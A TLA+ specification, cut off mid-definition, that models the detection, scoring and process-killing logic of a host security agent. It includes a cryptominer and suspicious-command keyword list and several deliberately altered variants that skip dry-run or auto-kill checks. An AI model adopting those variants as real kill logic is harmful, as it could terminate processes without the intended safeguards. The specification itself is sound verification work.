---- MODULE Spec2Model ----
(***************************************************************************)
(* Hora-Police: a model of the host agent's detection, scoring, safe-kill, *)
(* rollback-manifest and file-scan code.                                   *)
(*                                                                         *)
(* The module holds several specifications over one set of variables; each *)
(* specification drives one subsystem and leaves the others' variables     *)
(* untouched:                                                              *)
(*   SpecCpu       CpuAnalyzer.analyze over successive snapshots           *)
(*   SpecPipeline  the per-detection body of SentinelDaemon.run:           *)
(*                 analyze_process, record_suspicious_process, the npm /   *)
(*                 React / final decide_action + execute_action pairs      *)
(*   SpecDecide    SafeKillEngine.decide_action and execute_action on any  *)
(*                 process, confidence and supervisor binding              *)
(*   SpecDeploy    the per-detection body behind DeployDetector's          *)
(*                 should_suspend_kill, while deploy activity comes and    *)
(*                 goes                                                    *)
(*   SpecKill      the kill sequences of SafeKillEngine.kill_direct and    *)
(*                 KillEngine.kill_process step by step, while processes   *)
(*                 exit                                                    *)
(*   SpecLoop      the control flow of one iteration of                    *)
(*                 SentinelDaemon.run with every fallible call failing or  *)
(*                 not                                                     *)
(*   SpecManifest  RollbackManifest sign / verify / save / load            *)
(*   SpecFileScan  the file-scan step of SentinelDaemon.run and            *)
(*                 CronWatcher.remove_cron_safely                          *)
(*   SpecHashCache FileScanner.scan_file resolving a hash through the      *)
(*                 file-hash cache while the file is written               *)
(*   SpecReaper    ZombieReaper.check_and_reap while processes exit, are   *)
(*                 reaped by their parents and pids are reused             *)
(*                                                                         *)
(* Units.  Times are whole seconds.  f32 confidences are kept in           *)
(* hundredths (0.4 is 40); every constant the code adds or multiplies by   *)
(* is a whole number of hundredths on the values that occur.               *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

VARIABLES
    \* ---- CpuAnalyzer (src/src/cpu_analyzer.rs)
    now,              \* the wall clock read by the last analyze call
    snapshot,         \* the process list passed to the last analyze call
    process_history,  \* pid -> (max_cpu, first_seen), or NoEntry
    cpu_abuses,       \* the detections returned by the last analyze call
    ticks,            \* number of analyze calls so far
    streak,           \* history: consecutive snapshots with pid at/above threshold
    tracked_for,      \* history: analyze calls since pid's entry was inserted
    \* ---- the per-detection body of SentinelDaemon.run (src/src/daemon.rs)
    config,               \* dry_run, audit_only, auto_kill
    pc,                   \* where the loop body stands: idle, npm, final, done
    cur,                  \* the detection in hand: process, confidence, findings
    suspicious_processes, \* table rows, ordered by last_seen (most recent last)
    kill_actions,         \* table rows, in insertion order
    signals,              \* signals delivered to the host, in order
    supervisor_stops,     \* pm2 stop / systemctl stop invocations, in order
    last_action,          \* the last execute_action call of this iteration, its result
    adjusted_confidence,  \* the last npm- or React-adjusted confidence of this iteration
    handled,              \* number of detections taken up so far
    \* ---- RollbackManifest (src/src/rollback.rs)
    manifest,     \* the manifest in memory: timestamp, actions, hmac_signature
    disk,         \* the .json file of each stem: its text, or NoFile
    scripts,      \* the stems whose .sh file has been written
    loaded,       \* what the last load returned
    verdict,      \* what the last verify returned
    sealed,       \* history: the manifest as the last sign left it, and the key
    saved_as,     \* history: per stem, the manifest last saved and its seal
    last_op,      \* history: the last operation on the manifest
    steps,        \* number of operations so far
    \* ---- the file-scan step (src/src/daemon.rs, file_quarantine.rs, cron_watcher.rs)
    file_scanning,  \* kill_processes_using_file, aggressive_cleanup, auto_delete
    processes,      \* the host's process table: pid -> exe, parent, use of the file, alive
    parent_dir,     \* the detected file's directory: whether it exists, its files
    quarantine_dir, \* the files in the quarantine directory
    cron_file,      \* the cron file: its lines and whether it ends in a newline, or NoCron
    cron_dir,       \* the files created beside the cron file
    malware_files,  \* table rows, in insertion order
    scan_pc,        \* where the file-scan step or remove_cron_safely stands
    scan_local,     \* the locals of the step in hand
    \* ---- further parts of the agent, one record each
    scanner,        \* FileScanner.scan_file: the file, the cache row, the call's locals
    reaper,         \* ZombieReaper.check_and_reap: the processes, the call's locals
    decision,       \* the arguments of a decide_action call and what it returned
    deploy,         \* DeployDetector: the clock, the deploy evidence on the host,
                    \* recent_deploys, the working directory of the detected process
    killer,         \* a kill sequence under way: the engine, its position, the pid,
                    \* and the pids in KillEngine's own monitor
    tick,           \* SentinelDaemon.run: the position in the iteration, the detections
                    \* still to go, those gone through, the calls that failed
    environment,    \* SystemEnvironment: vcpu_count, a compute_cpu_threshold call
    index           \* a supervisor sub-index: the clock, last_refresh, the cached
                    \* entries, what the tool would list, the last answer

cpuVars == <<now, snapshot, process_history, cpu_abuses, ticks, streak, tracked_for>>

hostVars == <<signals, supervisor_stops>>

pipeVars == <<config, pc, cur, suspicious_processes, kill_actions, last_action,
              adjusted_confidence, handled>>

manifestVars == <<manifest, disk, scripts, loaded, verdict, sealed, saved_as, last_op, steps>>

scanVars == <<file_scanning, processes, parent_dir, quarantine_dir, cron_file, cron_dir,
              malware_files, scan_pc, scan_local>>

loopVars == <<scanner, reaper, decision, deploy, killer, tick, environment, index>>

vars == <<cpuVars, hostVars, pipeVars, manifestVars, scanVars, loopVars>>

\* ------------------------------------------------------------------ bounds
MaxPid == 2
MaxTicks == 4
MaxClock == 3
MaxDetections == 1
MaxActions == 2
MaxSteps == 4
MaxMtime == 3
MaxNow == 2
MaxCacheNow == 5
MaxHalfSeconds == 3
MaxVaultCalls == 3
MaxStay == 13
MaxVcpu == 6
MaxTreePid == 4
MaxRecords == 4
MaxFiles == 20
MaxScanThreads == 6
MaxIndexClock == 5
MaxQueries == 3
MaxForks == 1
MaxThreshold == 30

\* ---------------------------------------------------------------- helpers
Max(a, b) == IF a >= b THEN a ELSE b
Min(a, b) == IF a <= b THEN a ELSE b

Pids == 1..MaxPid

\* The clock is sampled on a grid of five minutes; MaxClock grid points.
ClockValues == {(5 * 60) * k : k \in 0..MaxClock}

\* ------------------------------------------------------------ CpuAnalyzer
cpu_threshold == 20
duration_minutes == 5

duration_seconds == duration_minutes * 60

\* `x as u64` for an i64 x.  The true modulus 2^64 is beyond TLC's integers;
\* 2^30 stands for it: like 2^64 it exceeds every duration it is compared with.
U64Modulus == 2^30
AsU64(x) == IF x >= 0 THEN x ELSE U64Modulus + x

NoEntry == [tracked |-> FALSE]
Absent == [present |-> FALSE]

\* A snapshot maps each pid to Absent or to the ProcessInfo fields analyze
\* reads; the cpu readings are one below and two above the threshold.
Snapshots ==
    [Pids -> {Absent} \cup {[present |-> TRUE, cpu_percent |-> c] : c \in {10, 25, 35}}]

IsAbove(p) == p.present /\ ~(p.cpu_percent < cpu_threshold)

\* The tracker entry of one pid after analyze: the loop body at lines 34-66
\* followed by retain (line 72).
Track(h, p, t) ==
    IF ~p.present THEN NoEntry
    ELSE IF p.cpu_percent < cpu_threshold THEN NoEntry
    ELSE IF h.tracked
         THEN [tracked |-> TRUE, max_cpu |-> Max(h.max_cpu, p.cpu_percent),
               first_seen |-> h.first_seen]
         ELSE [tracked |-> TRUE, max_cpu |-> p.cpu_percent, first_seen |-> t]

\* The elapsed time analyze compares with duration_seconds (line 50).
Elapsed(h, t) == AsU64(t - h.first_seen)

\* Whether analyze pushes a detection for this pid (lines 43-59).
Detects(h, p, t) ==
    /\ IsAbove(p)
    /\ h.tracked
    /\ Elapsed(h, t) >= duration_seconds

Detection(pid, h, p, t) ==
    [pid |-> pid,
     cpu_percent |-> Max(h.max_cpu, p.cpu_percent),
     duration_seconds |-> Elapsed(h, t),
     first_seen |-> h.first_seen,
     last_seen |-> t]

InitCpuVars ==
    /\ now = 0
    /\ snapshot = [p \in Pids |-> Absent]
    /\ process_history = [p \in Pids |-> NoEntry]
    /\ cpu_abuses = {}
    /\ ticks = 0
    /\ streak = [p \in Pids |-> 0]
    /\ tracked_for = [p \in Pids |-> 0]

\* One call of analyze(processes) at wall-clock time t.  Utc::now() is the
\* system's real-time clock: it may step backwards between two calls.
Analyze(procs, t) ==
    /\ ticks < MaxTicks
    /\ ticks' = ticks + 1
    /\ now' = t
    /\ snapshot' = procs
    /\ process_history' = [p \in Pids |-> Track(process_history[p], procs[p], t)]
    /\ cpu_abuses' = {Detection(p, process_history[p], procs[p], t) :
                        p \in {q \in Pids : Detects(process_history[q], procs[q], t)}}
    /\ streak' = [p \in Pids |-> IF IsAbove(procs[p]) THEN streak[p] + 1 ELSE 0]
    /\ tracked_for' = [p \in Pids |->
                         IF ~process_history'[p].tracked THEN 0
                         ELSE IF process_history[p].tracked THEN tracked_for[p] + 1
                         ELSE 1]

Tick == \E procs \in Snapshots, t \in ClockValues : Analyze(procs, t)

\* ------------------------------------------------------------ paths
\* A path is the sequence of its components: /usr/bin/node is <<"usr","bin","node">>.
IsPrefix(pre, path) == Len(pre) <= Len(path) /\ SubSeq(path, 1, Len(pre)) = pre

\* str::starts_with of a directory written with its trailing slash.
StartsWithDir(path, dir) == Len(dir) < Len(path) /\ IsPrefix(dir, path)

\* str::contains("/<d1>/<d2>/"): the components dirs in a row, not at the end.
ContainsDir(path, dirs) ==
    \E i \in 1..Len(path) :
        /\ i + Len(dirs) - 1 < Len(path)
        /\ SubSeq(path, i, i + Len(dirs) - 1) = dirs

ExeTmp == <<"tmp", "xmrig">>
ExeNode == <<"usr", "bin", "node">>
ExeSshd == <<"usr", "sbin", "sshd">>
ExeLocal == <<"home", "u", ".local", "kworker">>
ExeApp == <<"home", "deploy", "app", "server">>

\* The command line each binary is run with: the set of the words the code
\* searches it for.
CmdlineOf(exe) ==
    IF exe = ExeTmp THEN {"miner"}
    ELSE IF exe = ExeApp THEN {"node", "next", "miner", "eval"}
    ELSE IF exe = ExeNode THEN {"node", "next", "next start", "miner", "eval"}
    ELSE {}

\* ppid 1 (init), or pid 2: the process's own pid for pid 2, another's for pid 1.
ProcessInfos ==
    {[pid |-> p, ppid |-> pp, binary_path |-> e, command_line |-> CmdlineOf(e)] :
        p \in Pids, pp \in {1, 2}, e \in {ExeTmp, ExeNode, ExeSshd, ExeLocal, ExeApp}}

\* ------------------------------------------------------------ KillEngine
system_binaries ==
    {<<"sbin", "init">>, <<"usr", "sbin", "sshd">>, <<"usr", "bin", "systemd">>}

is_system_process(binary_path) ==
    \/ \E bin \in system_binaries : IsPrefix(bin, binary_path)
    \/ StartsWithDir(binary_path, <<"lib", "systemd">>)

\* ------------------------------------------------------------ database
NoRow == [found |-> FALSE]

RowsOf(rows, exe) == {i \in 1..Len(rows) : rows[i].binary_path = exe}

\* get_suspicious_by_binary: ORDER BY last_seen DESC LIMIT 1.
get_suspicious_by_binary(rows, exe) ==
    IF RowsOf(rows, exe) = {} THEN NoRow
    ELSE rows[CHOOSE i \in RowsOf(rows, exe) : \A j \in RowsOf(rows, exe) : j <= i]

RemoveAt(rows, i) == SubSeq(rows, 1, i - 1) \o SubSeq(rows, i + 1, Len(rows))
InsertAt(rows, k, row) == SubSeq(rows, 1, k) \o <<row>> \o SubSeq(rows, k + 1, Len(rows))

\* An upsert that stores the spawn_count it was handed.
upsert_keeps_spawn_count(rows, process, rank) ==
    LET same == {i \in 1..Len(rows) :
                    rows[i].binary_path = process.binary_path /\ rows[i].pid = process.pid}
    IN  IF same # {}
        THEN LET i == CHOOSE j \in same : \A k \in same : j <= k
                 rest == RemoveAt(rows, i)
             IN  InsertAt(rest, Min(rank, Len(rest)),
                          [rows[i] EXCEPT !.threat_confidence = process.threat_confidence,
                                          !.spawn_count = process.spawn_count,
                                          !.restart_detected = process.restart_detected])
        ELSE InsertAt(rows, Min(rank, Len(rows)), process)

\* upsert_suspicious_process.  The row written gets last_seen = Utc::now(); `rank`
\* is the number of rows whose last_seen is earlier than that (all of them unless
\* the clock stepped back).
upsert_suspicious_process(rows, process, rank) ==
    LET same == {i \in 1..Len(rows) :
                    rows[i].binary_path = process.binary_path /\ rows[i].pid = process.pid}
    IN  IF same # {}
        THEN LET i == CHOOSE j \in same : \A k \in same : j <= k
                 rest == RemoveAt(rows, i)
             IN  InsertAt(rest, Min(rank, Len(rest)),
                          [rows[i] EXCEPT !.threat_confidence = process.threat_confidence,
                                          !.spawn_count = rows[i].spawn_count + 1,
                                          !.restart_detected = process.restart_detected])
        ELSE InsertAt(rows, Min(rank, Len(rows)), process)

\* ------------------------------------------------------------ BehaviorIntelligence
suspicious_patterns ==
    {"miner", "xmrig", "crypto", "mining", "ccminer", "cpuminer", "stratum", "pool",
     "hashrate", "rig", "gpu", "cuda", "base64", "eval", "exec"}

NewProcessConfidence(process, cpu_percent, duration) ==
    LET base == (IF cpu_percent > 30 THEN 40 ELSE IF cpu_percent > 20 THEN 30 ELSE 0)
                + (IF duration > 600 THEN 20 ELSE 0)
        safe == \/ StartsWithDir(process.binary_path, <<"usr", "bin">>)
                \/ StartsWithDir(process.binary_path, <<"usr", "sbin">>)
                \/ StartsWithDir(process.binary_path, <<"bin">>)
                \/ StartsWithDir(process.binary_path, <<"sbin">>)
        scaled == IF safe THEN (base * 3) \div 10 ELSE base
        pattern == IF process.command_line \cap suspicious_patterns # {} THEN 20 ELSE 0
        place == IF \/ StartsWithDir(process.binary_path, <<"tmp">>)
                    \/ StartsWithDir(process.binary_path, <<"var", "tmp">>)
                    \/ ContainsDir(process.binary_path, <<".cache">>)
                    \/ ContainsDir(process.binary_path, <<"dev", "shm">>)
                    \/ ContainsDir(process.binary_path, <<".local">>)
                 THEN 20 ELSE 0
        parent == IF process.ppid > 1 /\ process.ppid # process.pid THEN 10 ELSE 0
    IN  scaled + pattern + place + parent

\* The repeat branch without the bonus for a high spawn_count.
repeat_without_spawn_bonus(existing, process) ==
    existing.threat_confidence
    + (IF existing.pid # process.pid /\ existing.binary_path = process.binary_path
       THEN 20 ELSE 0)

RepeatConfidence(existing, process) ==
    existing.threat_confidence
    + (IF existing.pid # process.pid /\ existing.binary_path = process.binary_path
       THEN 20 ELSE 0)
    + (IF existing.spawn_count > 3 THEN 10 ELSE 0)

\* analyze_process with the final clamp left out.
analyze_process_unclamped(existing, process, cpu_percent, duration) ==
    IF existing # NoRow
    THEN RepeatConfidence(existing, process)
    ELSE NewProcessConfidence(process, cpu_percent, duration)

\* analyze_process with the restart bonus subtracted instead of added.
analyze_process_restart_lowers(existing, process, cpu_percent, duration) ==
    IF existing # NoRow
    THEN Max(0, Min(existing.threat_confidence
                    - (IF existing.pid # process.pid THEN 20 ELSE 0), 100))
    ELSE Min(NewProcessConfidence(process, cpu_percent, duration), 100)

\* analyze_process: `existing` is what get_suspicious_by_binary returned.
analyze_process(existing, process, cpu_percent, duration) ==
    IF existing # NoRow
    THEN Min(RepeatConfidence(existing, process), 100)
    ELSE Min(NewProcessConfidence(process, cpu_percent, duration), 100)

\* The SuspiciousProcess that record_suspicious_process hands to the upsert.
SuspiciousProcess(existing, process, confidence) ==
    [found |-> TRUE,
     pid |-> process.pid,
     binary_path |-> process.binary_path,
     threat_confidence |-> confidence,
     spawn_count |-> IF existing # NoRow THEN existing.spawn_count ELSE 1,
     restart_detected |-> IF existing # NoRow THEN existing.pid # process.pid ELSE FALSE]

record_suspicious_process(rows, process, confidence, rank) ==
    upsert_suspicious_process(
        rows,
        SuspiciousProcess(get_suspicious_by_binary(rows, process.binary_path),
                          process, confidence),
        rank)

\* ------------------------------------------------------------ detectors
\* ReactDetector.detect: the confidence it reports, 0 for None.
react_detect(process, cpu_percent) ==
    LET cl == process.command_line
        c == (IF {"react", "next", "remix"} \cap cl # {}
              THEN (IF cpu_percent > 15 THEN 30 ELSE 0) + (IF cpu_percent > 20 THEN 20 ELSE 0)
              ELSE 0)
             + (IF {"crypto", "miner", "hash"} \cap cl # {} THEN 40 ELSE 0)
             + (IF {"eval", "Function("} \cap cl # {} THEN 30 ELSE 0)
    IN  IF "node" \notin cl /\ "node" \notin {process.binary_path[i] :
                                                i \in 1..Len(process.binary_path)}
        THEN 0
        ELSE IF c > 50 THEN c ELSE 0

\* ------------------------------------------------------------ SafeKillEngine
threat_confidence_threshold == 70
high_confidence_threshold == 95

\* WhitelistManager: the compiled patterns.  Those made from a path are
\* anchored at its start ("^/home/deploy/app"); of the common patterns
\* (whitelist.rs 173-179) "next start" matches anywhere in a string.
whitelist_patterns == {<<"home", "deploy", "app">>}

\* is_whitelisted (whitelist.rs 214-237): a pattern matches the binary path
\* or the command line.  (The fingerprints compared last are hashes of
\* package.json files; no binary in the model has one of them.)
is_whitelisted(process) ==
    \/ \E pat \in whitelist_patterns : IsPrefix(pat, process.binary_path)
    \/ "next start" \in process.command_line

is_whitelisted_home_directory(path) == \E pat \in whitelist_patterns : IsPrefix(pat, path)

\* decide_action with the whitelist looked at after the supervisors.
decide_action_supervisors_first(process, confidence, idx) ==
    IF "pm2" \in idx
    THEN (IF confidence >= high_confidence_threshold THEN "StopPm2" ELSE "Notify")
    ELSE IF "systemd" \in idx
         THEN (IF confidence >= high_confidence_threshold THEN "StopUnit" ELSE "Notify")
    ELSE IF is_whitelisted(process) THEN "Skip"
    ELSE IF "nginx" \in idx THEN "Notify"
    ELSE IF \/ IsPrefix(<<"tmp">>, process.binary_path)
            \/ IsPrefix(<<"var", "tmp">>, process.binary_path)
            \/ IsPrefix(<<"home">>, process.binary_path)
                 /\ ~is_whitelisted_home_directory(process.binary_path)
         THEN (IF confidence >= threat_confidence_threshold THEN "KillDirect" ELSE "Notify")
    ELSE "Notify"

\* decide_action with the supervisors' threshold at threat_confidence_threshold.
decide_action_low_threshold(process, confidence, idx) ==
    IF is_whitelisted(process) THEN "Skip"
    ELSE IF "pm2" \in idx
         THEN (IF confidence >= threat_confidence_threshold THEN "StopPm2" ELSE "Notify")
    ELSE IF "systemd" \in idx
         THEN (IF confidence >= threat_confidence_threshold THEN "StopUnit" ELSE "Notify")
    ELSE IF "nginx" \in idx THEN "Notify"
    ELSE IF \/ IsPrefix(<<"tmp">>, process.binary_path)
            \/ IsPrefix(<<"var", "tmp">>, process.binary_path)
            \/ IsPrefix(<<"home">>, process.binary_path)
                 /\ ~is_whitelisted_home_directory(process.binary_path)
         THEN (IF confidence >= threat_confidence_threshold THEN "KillDirect" ELSE "Notify")
    ELSE "Notify"

\* decide_action with the location looked at before the nginx upstreams.
decide_action_location_first(process, confidence, idx) ==
    IF is_whitelisted(process) THEN "Skip"
    ELSE IF "pm2" \in idx
         THEN (IF confidence >= high_confidence_threshold THEN "StopPm2" ELSE "Notify")
    ELSE IF "systemd" \in idx
         THEN (IF confidence >= high_confidence_threshold THEN "StopUnit" ELSE "Notify")
    ELSE IF \/ IsPrefix(<<"tmp">>, process.binary_path)
            \/ IsPrefix(<<"var", "tmp">>, process.binary_path)
            \/ IsPrefix(<<"home">>, process.binary_path)
                 /\ ~is_whitelisted_home_directory(process.binary_path)
         THEN (IF confidence >= threat_confidence_threshold THEN "KillDirect" ELSE "Notify")
    ELSE "Notify"

decide_action(process, confidence, idx) ==
    IF is_whitelisted(process) THEN "Skip"
    ELSE IF "pm2" \in idx
         THEN (IF confidence >= high_confidence_threshold THEN "StopPm2" ELSE "Notify")
    ELSE IF "systemd" \in idx
         THEN (IF confidence >= high_confidence_threshold THEN "StopUnit" ELSE "Notify")
    ELSE IF "nginx" \in idx THEN "Notify"
    ELSE IF \/ IsPrefix(<<"tmp">>, process.binary_path)
            \/ IsPrefix(<<"var", "tmp">>, process.binary_path)
            \/ IsPrefix(<<"home">>, process.binary_path)
                 /\ ~is_whitelisted_home_directory(process.binary_path)
         THEN (IF confidence >= threat_confidence_threshold THEN "KillDirect" ELSE "Notify")
    ELSE "Notify"

Called(action, process, confidence, result) ==
    [called |-> TRUE, action |-> action, confidence |-> confidence, result |-> result]

NoCall == [called |-> FALSE]

\* record_kill_action after a kill or stop, then the Ok(true) of the caller.
RecordKillAction(action, process, confidence, out) ==
    IF out.db_ok
    THEN /\ kill_actions' = Append(kill_actions,
                                   [pid |-> process.pid, confidence |-> confidence])
         /\ last_action' = Called(action, process, confidence, "Ok(true)")
    ELSE /\ UNCHANGED kill_actions
         /\ last_action' = Called(action, process, confidence, "Err")

\* kill_direct without the auto_kill return.
kill_direct_ignores_auto_kill(action, process, confidence, out) ==
    IF ~out.term_ok
    THEN /\ UNCHANGED <<signals, supervisor_stops, kill_actions>>
         /\ last_action' = Called(action, process, confidence, "Err")
    ELSE /\ signals' = signals \o <<[pid |-> process.pid, sig |-> "SIGTERM",
                                     binary_path |-> process.binary_path],
                                    [pid |-> process.pid, sig |-> "SIGKILL",
                                     binary_path |-> process.binary_path]>>
         /\ UNCHANGED supervisor_stops
         /\ RecordKillAction(action, process, confidence, out)

kill_direct(action, process, confidence, out) ==
    IF ~config.auto_kill
    THEN /\ UNCHANGED <<signals, supervisor_stops, kill_actions>>
         /\ last_action' = Called(action, process, confidence, "Ok(false)")
    ELSE IF ~out.term_ok
    THEN /\ UNCHANGED <<signals, supervisor_stops, kill_actions>>
         /\ last_action' = Called(action, process, confidence, "Err")
    ELSE /\ signals' = signals \o <<[pid |-> process.pid, sig |-> "SIGTERM",
                                     binary_path |-> process.binary_path],
                                    [pid |-> process.pid, sig |-> "SIGKILL",
                                     binary_path |-> process.binary_path]>>
         /\ UNCHANGED supervisor_stops
         /\ RecordKillAction(action, process, confidence, out)

StopViaSupervisor(action, process, confidence, out) ==
    IF ~out.found
    THEN kill_direct(action, process, confidence, out)
    ELSE /\ supervisor_stops' = Append(supervisor_stops,
                                       [pid |-> process.pid, action |-> action,
                                        binary_path |-> process.binary_path])
         /\ UNCHANGED signals
         /\ IF out.stop_ok
            THEN RecordKillAction(action, process, confidence, out)
            ELSE /\ UNCHANGED kill_actions
                 /\ last_action' = Called(action, process, confidence, "Err")

\* execute_action with the dry-run / audit-only return left out.
execute_action_ignores_dry_run(action, process, confidence, out) ==
    IF action \in {"Skip", "Notify"}
    THEN /\ UNCHANGED <<signals, supervisor_stops, kill_actions>>
         /\ last_action' = Called(action, process, confidence, "Ok(false)")
    ELSE IF action \in {"StopUnit", "StopPm2"}
    THEN StopViaSupervisor(action, process, confidence, out)
    ELSE kill_direct(action, process, confidence, out)

execute_action(action, process, confidence, out) ==
    IF config.audit_only \/ config.dry_run
    THEN /\ UNCHANGED <<signals, supervisor_stops, kill_actions>>
         /\ last_action' = Called(action, process, confidence, "Ok(false)")
    ELSE IF action \in {"Skip", "Notify"}
    THEN /\ UNCHANGED <<signals, supervisor_stops, kill_actions>>
         /\ last_action' = Called(action, process, confidence, "Ok(false)")
    ELSE IF action \in {"StopUnit", "StopPm2"}
    THEN StopViaSupervisor(action, process, confidence, out)
    ELSE kill_direct(action, process, confidence, out)

\* One decide_action + execute_action pair on the arguments drawn at the
\* start, with every answer of the supervisor indices.
Decide ==
    /\ decision.action = "none"
    /\ decision' = [decision EXCEPT
                       !.action = decide_action(decision.process, decision.confidence,
                                                decision.idx)]
    /\ \E out \in [found : BOOLEAN, stop_ok : BOOLEAN, term_ok : BOOLEAN, db_ok : BOOLEAN] :
           execute_action(decision'.action, decision.process, decision.confidence, out)
    /\ UNCHANGED <<config, pc, cur, suspicious_processes, adjusted_confidence, handled>>
    /\ UNCHANGED <<cpuVars, manifestVars, scanVars, scanner, reaper, deploy, killer, tick, environment, index>>

\* One decide_action + execute_action pair of the main loop.  idx: what the
\* supervisor indices answer for the pid at the time of the call.  out: the
\* outcomes of the calls an execution makes outside the process: whether the
\* supervisor still lists the pid, whether the stop command, kill(SIGTERM)
\* and the kill_actions INSERT succeed.
DecideAndExecute(process, confidence) ==
    \E idx \in {{}, {"nginx"}, {"systemd", "nginx"}, {"pm2", "systemd", "nginx"}},
       out \in [found : BOOLEAN, stop_ok : BOOLEAN, term_ok : BOOLEAN, db_ok : BOOLEAN] :
        execute_action(decide_action(process, confidence, idx), process, confidence, out)

\* ------------------------------------------------------------ SentinelDaemon.run
\* The per-detection body of the main loop (daemon.rs 261-444).
NoDetection == [taken |-> FALSE]

\* (confidence + finding * weight).min(1.0), weight in tenths.
adjust(confidence, finding, weight) == Min(confidence + (finding * weight) \div 10, 100)

InitHostVars ==
    /\ signals = <<>>
    /\ supervisor_stops = <<>>

\* The table as earlier detections can have left it: empty; the row of the
\* miner in /tmp, scored 0.7 and seen four times under pid 1; or the miner
\* seen first under pid 2 (0.4) and then, restarted, under pid 1 (0.6).
StoredTables ==
    {<<>>,
     <<[found |-> TRUE, pid |-> 1, binary_path |-> ExeTmp, threat_confidence |-> 70,
        spawn_count |-> 4, restart_detected |-> FALSE]>>,
     <<[found |-> TRUE, pid |-> 2, binary_path |-> ExeTmp, threat_confidence |-> 40,
        spawn_count |-> 1, restart_detected |-> FALSE],
       [found |-> TRUE, pid |-> 1, binary_path |-> ExeTmp, threat_confidence |-> 60,
        spawn_count |-> 1, restart_detected |-> TRUE]>>}

InitPipeVars ==
    /\ pc = "idle"
    /\ cur = NoDetection
    /\ kill_actions = <<>>
    /\ last_action = NoCall
    /\ adjusted_confidence = 0
    /\ handled = 0

\* Lines 261-310: skip system processes and suspended kills, score, record, scan.
\* `suspended` is DeployDetector.should_suspend_kill, `write_ok` whether
\* record_suspicious_process succeeded, `scan` the npm findings.
BeginAbuse(process, cpu_percent, duration, suspended, write_ok, rank, scan) ==
    /\ pc = "idle"
    /\ handled < MaxDetections
    /\ handled' = handled + 1
    /\ UNCHANGED <<config, kill_actions, last_action, adjusted_confidence, hostVars>>
    /\ IF is_system_process(process.binary_path) \/ suspended
       THEN UNCHANGED <<pc, cur, suspicious_processes>>
       ELSE LET existing == get_suspicious_by_binary(suspicious_processes,
                                                     process.binary_path)
                confidence == analyze_process(existing, process, cpu_percent, duration)
            IN  /\ suspicious_processes' =
                       IF write_ok
                       THEN record_suspicious_process(suspicious_processes, process,
                                                      confidence, rank)
                       ELSE suspicious_processes
                /\ cur' = [taken |-> TRUE, process |-> process,
                           confidence |-> confidence, infections |-> scan,
                           react |-> react_detect(process, cpu_percent)]
                /\ pc' = "npm"

\* daemon.rs 274-297 alone, for a run of detections: analyze_process, then
\* record_suspicious_process.  rank as in upsert_suspicious_process.
RecordDetection ==
    /\ handled < MaxRecords
    /\ handled' = handled + 1
    /\ \E process \in {q \in ProcessInfos : q.ppid = 1 /\ q.binary_path \in {ExeTmp, ExeLocal}},
          rank \in {0, MaxRecords} :
           LET existing == get_suspicious_by_binary(suspicious_processes, process.binary_path)
               confidence == analyze_process(existing, process, 35, 900)
           IN  /\ suspicious_processes' =
                      record_suspicious_process(suspicious_processes, process, confidence, rank)
               /\ cur' = [taken |-> TRUE, process |-> process, confidence |-> confidence]
    /\ UNCHANGED <<config, pc, kill_actions, last_action, adjusted_confidence, hostVars>>
    /\ UNCHANGED <<cpuVars, manifestVars, scanVars, loopVars>>

\* daemon.rs 274-297 for a process that is detected tick after tick under the
\* same pid: every read and write of the database succeeds and the clock moves
\* forward, so the row written is the most recent.
StayDetected ==
    /\ handled < MaxStay
    /\ handled' = handled + 1
    /\ LET existing == get_suspicious_by_binary(suspicious_processes,
                                                cur.process.binary_path)
           confidence == analyze_process(existing, cur.process, cur.cpu_percent,
                                         cur.duration)
       IN  /\ suspicious_processes' =
                  record_suspicious_process(suspicious_processes, cur.process, confidence,
                                            Len(suspicious_processes))
           /\ cur' = [cur EXCEPT !.taken = TRUE, !.confidence = confidence]
    /\ UNCHANGED <<config, pc, kill_actions, last_action, adjusted_confidence, hostVars>>
    /\ UNCHANGED <<cpuVars, manifestVars, scanVars, loopVars>>

\* intelligence.rs 47-107: analyze_process for a process the table has no
\* row for, on the arguments drawn at the start.
AnalyzeNewProcess ==
    /\ ~cur.taken
    /\ cur' = [cur EXCEPT !.taken = TRUE,
                          !.confidence = analyze_process(NoRow, cur.process, cur.cpu_percent,
                                                         cur.duration)]
    /\ UNCHANGED <<config, pc, suspicious_processes, kill_actions, last_action,
                   adjusted_confidence, handled, hostVars>>
    /\ UNCHANGED <<cpuVars, manifestVars, scanVars, loopVars>>

\* Lines 311-370: one iteration of the loop over the npm findings.
NpmInfection ==
    /\ pc = "npm"
    /\ cur.infections # <<>>
    /\ LET adjusted == adjust(cur.confidence, Head(cur.infections), 3)
       IN  /\ adjusted_confidence' = adjusted
           /\ IF adjusted >= threat_confidence_threshold
              THEN DecideAndExecute(cur.process, adjusted)
              ELSE UNCHANGED <<hostVars, kill_actions, last_action>>
    /\ cur' = [cur EXCEPT !.infections = Tail(cur.infections)]
    /\ UNCHANGED <<config, pc, suspicious_processes, handled>>

\* Lines 372-400: the React check, once the npm findings are done.
ReactCheck ==
    /\ pc = "npm"
    /\ cur.infections = <<>>
    /\ pc' = "final"
    /\ IF cur.react > 0
       THEN LET adjusted == adjust(cur.confidence, cur.react, 2)
            IN  /\ adjusted_confidence' = adjusted
                /\ IF adjusted >= threat_confidence_threshold
                   THEN DecideAndExecute(cur.process, adjusted)
                   ELSE UNCHANGED <<hostVars, kill_actions, last_action>>
       ELSE UNCHANGED <<adjusted_confidence, hostVars, kill_actions, last_action>>
    /\ UNCHANGED <<config, cur, suspicious_processes, handled>>

\* Lines 402-444: the kill on the unadjusted confidence.
FinalKill ==
    /\ pc = "final"
    /\ pc' = "done"
    /\ IF cur.confidence >= threat_confidence_threshold
       THEN DecideAndExecute(cur.process, cur.confidence)
       ELSE UNCHANGED <<hostVars, kill_actions, last_action>>
    /\ UNCHANGED <<config, cur, suspicious_processes, adjusted_confidence, handled>>

\* The end of the iteration: its locals go out of scope.
EndAbuse ==
    /\ pc = "done"
    /\ pc' = "idle"
    /\ cur' = NoDetection
    /\ last_action' = NoCall
    /\ adjusted_confidence' = 0
    /\ UNCHANGED <<config, suspicious_processes, kill_actions, handled, hostVars>>

\* One detection taken up.  A CpuAbuseDetection carries the maximum cpu seen
\* (at or above the threshold) and the elapsed seconds (at or above
\* duration_seconds); scan: the threat levels NpmScanner.scan_process reports
\* (each above 0.3, at most 1.0).
TakeAbuse ==
    \E process \in ProcessInfos, cpu_percent \in {20, 25, 35},
       duration \in {300, 900}, suspended \in BOOLEAN, write_ok \in BOOLEAN,
